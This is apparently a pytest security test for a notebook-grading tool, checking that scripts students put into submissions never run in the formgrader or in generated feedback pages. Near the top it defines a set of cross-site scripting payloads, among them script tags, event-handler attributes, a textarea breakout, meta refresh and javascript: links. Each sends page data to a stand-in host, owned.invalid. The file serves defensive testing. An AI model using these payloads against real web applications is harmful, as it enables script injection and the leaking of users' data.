"""What trainees wrote, in the browsers of those who read it: no script of theirs runs, on formgrader or on feedback."""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from casebook.author.course import Course
from casebook.exercise.release import release
from casebook.grading.handin.collect import collect
from casebook.grading.handin.notebook.work import rebuild_notebook
from casebook.grading.handin.submission import read_notebook
from casebook.grading.result.feedback import write_feedback
from casebook.grading.run.assignment import grade_exercise
from casebook.mark.response import write_response

from ..casebook.conftest import CONFIG, TeaSubject, answer, write_answers
from ..casebook.grading.formgrader import TOKEN, get_page, serve_formgrader

ACT = "new Image().src='http://owned.invalid/'+location.pathname"
SCRIPTS = (
    f"<script>{ACT}</script>",
    f'<img src=x onerror="{ACT}">',
    f'<svg onload="{ACT}"><rect/></svg>',
    f'<iframe srcdoc="<script>{ACT}</script>"></iframe>',
    f"</textarea></pre></code></script><script>{ACT}</script>",
    f'<details open ontoggle="{ACT}">',
    "<link rel=stylesheet href=http://owned.invalid/style><meta http-equiv=refresh content='0;url=http://owned.invalid/'>",
    "![picture](http://owned.invalid/picture) [link](javascript:owned())",
    "$\\href{javascript:owned()}{x}$ $\\require{html}\\style{background:url(http://owned.invalid/math)}{x}$",
)
CODE = f"""# Task: hottest-cup (keep this line)
from IPython.display import HTML, SVG, Javascript, Markdown, display
for text in {SCRIPTS!r}:
    display(HTML(text), Markdown(text), Javascript({ACT!r}), {{'text/html': text}})
    print(text)
def hottest(cups): raise RuntimeError({" ".join(SCRIPTS)!r})
raise ValueError({" ".join(SCRIPTS)!r})
"""


def stuff(notebook: dict[str, Any]) -> dict[str, Any]:
    """Put scripts into every field of a notebook that holds text."""
    everything = "\n\n".join(SCRIPTS)
    for cell in notebook["cells"]:
        cell["metadata"] |= {"title": everything, "tags": list(SCRIPTS)}
        cell["attachments"] = {"a.svg": {"image/svg+xml": SCRIPTS[2]}, "a.html": {"text/html": SCRIPTS[0]}}
        if cell["cell_type"] == "code":
            data = {
                "text/html": everything,
                "application/javascript": ACT,
                "image/svg+xml": SCRIPTS[2],
                "text/markdown": everything,
            }
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
        elif cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = everything
    for number, kind in enumerate(("markdown", "raw")):
        source = f"{everything}\n\n![a](attachment:a.svg)"
        cell = {"cell_type": kind, "id": f"mine-{number}", "metadata": {}, "source": source}
        notebook["cells"].append(cell | {"attachments": {"a.svg": {"image/svg+xml": SCRIPTS[2]}}})
    notebook["metadata"] |= {
        "title": everything,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": everything}},
    }
    return notebook


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    """A course in which two trainees put scripts wherever they could, graded, with both kinds of feedback."""
    root = tmp_path_factory.mktemp("scripts") / "course"
    (root / "book").mkdir(parents=True)
    (root / "nbgrader_config.py").write_text(CONFIG)
    course = Course(root, root / "answers", TeaSubject())  # type: ignore[arg-type]
    write_answers(course)
    release(course, "tea")
    everything = "\n".join(SCRIPTS)
    for learner in (f"x{SCRIPTS[0]}", "page", "notebook"):
        inbox = root.parent / "inbox"
        (inbox / "in").mkdir(parents=True)
        own = {
            "second_cup__note": everything, "second_cup__volume": SCRIPTS[1], "second_cup__warm": SCRIPTS[0],
            "second_cup__guests": SCRIPTS[:2], "hottest_cup__code": CODE,
        }  # fmt: skip
        response = answer(course, learner, **own)
        (inbox / "in" / "response.json").write_bytes(write_response(response))
        if learner == "notebook":
            released = read_notebook((course.exercises / "tea" / "tea.ipynb").read_bytes())
            handed = stuff(json.loads(rebuild_notebook(released, response)))
            (inbox / "in" / "tea.ipynb").write_text(json.dumps(handed))
        collect(course, "tea", inbox)
        shutil.rmtree(inbox)
    # Whoever hands in through nbgrader's exchange is not collected by us.
    exchanged = course.submitted / "exchanged" / "tea"
    shutil.copytree(course.submitted / "page" / "tea", exchanged)
    released = json.loads((course.exercises / "tea" / "tea.ipynb").read_text())
    (exchanged / "tea.ipynb").write_text(json.dumps(stuff(released)))
    grade_exercise(course, "tea")
    return course


Visit = Callable[[str], list[str]]


@pytest.fixture
def visit(chromium: Browser) -> Iterator[Visit]:
    """Return what opens a page and tells what it asked of the trainees' host, or said aloud."""
    context = chromium.new_context(extra_http_headers={"Authorization": f"token {TOKEN}"})
    acted: list[str] = []

    def visited(url: str) -> list[str]:
        page = context.new_page()
        page.on("dialog", lambda dialog: (acted.append(dialog.message), dialog.dismiss()))

        def route(route: Any) -> None:
            if "owned.invalid" in route.request.url:
                acted.append(route.request.url)
            if route.request.url.startswith((url.partition("/formgrader")[0], "file:", "data:")):
                route.continue_()
            else:
                route.abort()

        page.route("**/*", route)
        page.goto(url, wait_until="load")
        page.wait_for_timeout(700)
        acted.extend(page.eval_on_selector_all("a[href^='javascript:owned']", "found => found.map(each => each.href)"))
        page.close()
        return acted

    yield visited
    context.close()


@pytest.fixture(scope="module")
def formgrader(course: Course, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with serve_formgrader(course.root, tmp_path_factory.mktemp("home")) as address:
        yield f"{address}/formgrader"


def list_submissions(formgrader: str) -> dict[str, str]:
    notebooks = json.loads(get_page(f"{formgrader}/api/submitted_notebooks/tea/tea"))
    return {str(each["student"]): f"{formgrader}/submissions/{each['id']}/" for each in notebooks}


def test_formgrader_runs_no_script_of_a_trainee_s(visit: Visit, formgrader: str) -> None:
    pages = list_submissions(formgrader)
    assert len(pages) == 4
    listings = ("", "/manage_students", "/gradebook", "/gradebook/tea", "/gradebook/tea/tea", "/manage_submissions/tea")
    for url in (*pages.values(), *(f"{formgrader}{path}" for path in listings)):
        assert visit(url) == [], url


def test_neither_kind_of_feedback_runs_one(visit: Visit, course: Course) -> None:
    write_feedback(course, "tea")
    ours = sorted(course.feedback.rglob("*.html"))
    assert len(ours) == 4
    for page in ours:
        assert "owned.invalid" in page.read_text("utf-8")
        assert visit(page.as_uri()) == [], page
    shutil.rmtree(course.feedback)
    environment = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    subprocess.run(
        [sys.executable, "-m", "nbgrader", "generate_feedback", "tea", "--force"],
        cwd=course.root, env=environment, check=True, capture_output=True,
    )  # fmt: skip
    theirs = sorted(course.feedback.rglob("*.html"))
    assert len(theirs) == 4
    for page in theirs:
        assert "owned.invalid" in page.read_text("utf-8")
        assert visit(page.as_uri()) == [], page


def test_a_script_that_was_let_through_would_be_seen(visit: Visit, course: Course, formgrader: str) -> None:
    path = course.autograded / "page" / "tea" / "tea.ipynb"
    path.write_text(json.dumps(stuff(json.loads(path.read_text()))))
    assert len(visit(list_submissions(formgrader)["page"])) > 2
